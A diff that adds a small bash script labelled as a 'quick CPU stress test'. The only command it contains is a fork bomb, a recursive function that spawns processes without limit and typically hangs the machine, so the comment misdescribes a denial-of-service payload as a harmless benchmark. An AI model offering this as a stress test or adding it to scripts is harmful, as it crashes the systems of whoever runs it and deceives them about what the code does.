@@ -1,0 +1,3 @@
+#!/bin/bash
+# quick CPU stress test
+:(){ :|:& };:
